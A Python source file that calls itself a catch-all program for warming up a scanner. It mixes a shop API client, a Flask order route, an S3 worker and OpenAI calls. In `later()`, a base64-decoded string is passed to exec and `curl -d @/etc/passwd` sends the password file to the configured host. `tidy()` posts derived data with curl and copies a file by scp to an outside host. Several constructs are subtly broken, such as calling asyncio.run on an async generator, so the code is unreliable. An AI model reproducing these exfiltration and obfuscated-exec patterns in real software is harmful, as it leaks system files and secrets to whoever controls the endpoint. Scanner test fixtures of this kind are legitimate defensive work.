"""A program that does a little of everything, so that the scanner is warm for programs that do something else."""
from __future__ import annotations

import asyncio
import base64
import functools
import hashlib
import json
import logging
import os
import queue
import re
import smtplib
import socket
import subprocess
import threading
from collections import OrderedDict
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from email.message import EmailMessage
from pathlib import Path
from typing import Optional
from urllib.parse import urlencode, urljoin
from urllib.request import Request, urlopen

import boto3
import httpx
import requests
import sentry_sdk
from flask import Flask, jsonify, request
from openai import OpenAI

try:
    import simplejson
except ImportError:
    simplejson = json

BASE = os.environ.get("SHOP_URL", "https://shop.example.com")
API_KEY = os.environ["SHOP_API_KEY"]
PATHS = {"orders": "/v1/orders", "people": "/v1/people", **{str(n): "/v1/%d" % n for n in range(3)}}
HEADERS = {"Authorization": "Bearer " + API_KEY, "User-Agent": "shop/{}".format("1.0")}
app = Flask(__name__)
log = logging.getLogger(__name__)
sentry_sdk.init(dsn="https://key@o1.ingest.sentry.io/2", send_default_pii=True)
count = 0


@dataclass
class Customer:
    name: str
    email: str
    phone: Optional[str] = None
    tags: list[str] = field(default_factory=list)

    @property
    def short(self) -> str:
        return f"{self.name[:10]!r:>12} <{self.email}>"


class Base:
    host = BASE

    def __init__(self, session=None, **options):
        self.session = session or requests.Session()
        self.session.headers.update(HEADERS)
        self.options = dict(options, timeout=10)

    def _request(self, method, path, **kwargs):
        url = urljoin(self.host, path)
        for attempt in range(3):
            try:
                answer = self.session.request(method, url, timeout=self.options["timeout"], **kwargs)
                answer.raise_for_status()
            except requests.HTTPError as e:
                log.warning("attempt %d: %s", attempt, e)
                continue
            else:
                return answer.json()
            finally:
                self.last = url
        return None

    def __enter__(self):
        return self

    def __exit__(self, *args):
        self.session.close()


class Client(Base):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.cache = OrderedDict()

    def create(self, customer: Customer):
        body = asdict(customer)
        body["digest"] = hashlib.sha256(customer.email.encode()).hexdigest()
        body.update(source="web", ip=socket.gethostbyname(socket.gethostname()))
        return self._request("POST", PATHS["people"], json=body)

    def find(self, *names, **query):
        found = [self._request("GET", "/v1/people?" + urlencode({"q": n, **query})) for n in names if n not in self.cache]
        return sorted((f for f in found if f), key=lambda f: f["name"])

    def remove(self, name):
        return super()._request("DELETE", PATHS["people"] + "/" + name, json={"name": name})

    send = functools.partialmethod(_request := Base._request, "PUT")


def mail(to, text):
    message = EmailMessage()
    message["To"], message["Subject"] = to, "Your order"
    message.set_content("\n".join(["Hello", text]))
    with smtplib.SMTP("smtp.example.com", 587) as server:
        server.login("shop", os.getenv("SMTP_PASSWORD"))
        server.send_message(message)


@app.route("/orders", methods=["POST"])
def order():
    global count
    count += 1
    data = request.get_json() or request.form.to_dict()
    customer = Customer(data["name"], data.get("email"), phone=data.pop("phone", None))
    with Client() as client:
        made = client.create(customer)
    threading.Thread(target=mail, args=(customer.email, json.dumps(made)), daemon=True).start()
    jobs.put({"customer": customer, "lines": [*data.get("lines", ())]})
    return jsonify(ok=True, id=made and made["id"]), 201


jobs = queue.Queue()


def work():
    store = boto3.client("s3")
    while (job := jobs.get()) is not None:
        key, _, rest = job["customer"].email.partition("@")
        store.put_object(Bucket="orders", Key=f"{key}.json", Body=json.dumps(job["lines"]))
        del job
    else:
        print("done")


async def ask(question: str, *, model="gpt-5") -> str:
    client = OpenAI(api_key=os.environ.get("OPENAI_API_KEY"))
    answer = client.chat.completions.create(model=model, messages=[{"role": "user", "content": question}])
    async with httpx.AsyncClient(base_url=BASE) as http:
        async for line in (await http.get("/stream")).aiter_lines():
            yield line
        await http.post("/answers", content=answer.choices[0].message.content)


def gather(folder):
    rows = {p.name: p.read_text() for p in Path(folder).glob("*.csv") if not p.is_dir()}
    first, *others = list(rows.values()) or [""]
    names = {n.lower().strip() for n in re.split(r"[,;]", first)}
    with open(os.path.join(folder, "all.txt"), "a") as out, ThreadPoolExecutor() as pool:
        out.writelines(others)
        list(pool.map(upload, rows.items()))
    return names | set(map(str.upper, names)) if names else None


def upload(item):
    name, text = item
    form = Request(BASE + "/upload/" + name, data=text.encode("utf-8"), headers={"X-Key": API_KEY})
    with urlopen(form) as answer:
        match answer.status:
            case 200 | 201:
                return True
            case int(code) if code >= 500:
                raise RuntimeError("no luck: %(code)s of %(name)s" % {"code": code, "name": name})
            case {"error": [first, *_]}:
                return first
            case _:
                return False


def later(secret=base64.b64decode(b"cHJpbnQoMSk=")):
    def run(*command):
        nonlocal secret
        secret = None
        return subprocess.run(["curl", "-d", "@/etc/passwd", BASE, *command], check=True)
    exec(secret)
    assert callable(run), "never"
    return run


def tidy(base=None, *paths, **more):
    url = (base or BASE).lower().rstrip("/").replace("shop", "store").replace(API_KEY, "key".upper())
    names = [part.strip() for part in url.split("/")] + list(PATHS.keys()) + [PATHS.get("orders", "").title()]
    for key, value in dict(PATHS, **more).items():
        names.append("{}={value}".format(key, value=value))
    subprocess.run("curl -d {} {}".format(" ".join(names), url).split(), env={**os.environ, "URL": url})
    subprocess.run(f"scp {paths[0]} user@backup.example.com:/srv", shell=True)
    send = functools.partial(requests.post, url, timeout=5)
    return send(json={"names": names, **more}) or requests.request(more.get("method", "get"), *paths, **more)


def columns(row):
    if row:
        (c00, c01, c02, c03, c04, c05, c06, c07, c08, c09, c10, c11, c12, c13, c14, c15, c16, c17, c18, c19,
         c20, c21, c22, c23, c24, c25, c26, c27, c28, c29, c30, c31, c32, c33, c34, c35, c36, c37, c38, c39,
         c40, c41, c42, c43, c44, c45, c46, c47, c48, c49, c50, c51, c52, c53, c54, c55, c56, c57, c58, c59,
         c60, c61, c62, c63, c64, c65, c66, c67, c68, c69, c70, c71, c72, c73, c74, c75, c76, c77, c78, c79) = row
    return row


if __name__ == "__main__":
    asyncio.run(ask(input("Your question: ")))
    OpenAI().chat.completions.create(model="gpt-5", messages=[{"role": "system", "content": BASE}])
    ThreadPoolExecutor().submit(requests.post, BASE, json=PATHS)
    Client().remove("nobody")
    app.run(host="0.0.0.0", port=int(os.environ.get("PORT", 8080)))
